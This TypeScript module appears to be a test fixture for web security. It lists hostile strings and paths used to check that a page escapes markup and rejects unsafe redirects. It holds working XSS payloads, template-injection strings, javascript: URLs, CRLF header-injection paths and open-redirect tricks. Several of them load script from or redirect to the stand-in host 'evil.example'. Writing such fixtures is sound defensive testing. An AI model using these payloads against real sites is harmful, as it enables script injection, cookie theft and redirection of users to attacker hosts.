/**
 * Texts and paths that run as script or lead to another site if a page treats them as markup, code or an address. A
 * successful one sets `window.ran`, opens a dialog, or sends a request to `hostileHost`.
 */

export const hostileHost = 'evil.example';

const run = 'window.ran=1';

/** Runs as markup, without a click. */
export const hostileMarkup = `"></title></textarea>--><img src=x onerror=${run}>`;

export const hostileTexts: readonly string[] = [
  hostileMarkup,
  `<script>${run}</script>`,
  `<scr<script>ipt>${run}</script>`,
  `< scr\nipt src=//${hostileHost}/a.js>`,
  `<svg/ONLOAD = ${run}>`,
  `<iframe srcdoc="<script>parent.${run}</script>">`,
  `<base href=//${hostileHost}/>`,
  `<meta http-equiv=refresh content="0;url=//${hostileHost}">`,
  `<form action=//${hostileHost}><button autofocus onfocus=this.click()>`,
  `';${run};'`,
  `\${${run}}`,
  `{{constructor.constructor('${run}')()}}`,
  `$t(${run})`,
  `\u2028${run}\u2029`,
  `" onpointerdown\n=\n"${run}" x="`,
  `JaVaScRiPt:${run}`,
  `java\tscript :${run}`,
  `\u0001javascript:${run}`,
  'VBSCRIPT\t:MsgBox(1)',
  `data:text/html,<script>${run}</script>`,
  'eval',
  'window._EVAL (1)',
  'alert`1`',
  'top["Alert"](1)',
  'x=document.cookie',
  'DOCUMENT . COOKIE',
  'document\n.writeln(1)',
  'window . Location.href=1',
  'x.innerHTML=1',
  'INNERHTML',
  `//${hostileHost}`,
  `\\\\${hostileHost}`,
  `en/../..//${hostileHost}`,
];

/** Paths that a server or a script could interpret as more than a path. */
export const hostilePaths: readonly string[] = [
  `//${hostileHost}`,
  `///${hostileHost}/contact`,
  `//${hostileHost}%2f..`,
  `/en//${hostileHost}`,
  `/\\${hostileHost}`,
  `/\\/${hostileHost}/`,
  `/en/\\${hostileHost}`,
  `/%2f%2f${hostileHost}/`,
  `/%252f%252f${hostileHost}`,
  `/%5c%5c${hostileHost}/`,
  `/.//${hostileHost}`,
  `/contact/%2e%2e//${hostileHost}/../contact/`,
  `/%09/${hostileHost}/`,
  `/%0d%0aLocation:%20//${hostileHost}`,
  `/contact%0d%0aSet-Cookie:%20ran=1/`,
  `/contact/?%0d%0aX-Injected:%201`,
  `/contact/?lng=//${hostileHost}&redirectTo=//${hostileHost}`,
  `/https:/${hostileHost}`,
  `/javascript:${run}`,
  `/@${hostileHost}`,
  `/%00${hostileHost}`,
  `/%ff%fe//${hostileHost}`,
  `/"><img%20src=x%20onerror=${run}>`,
];
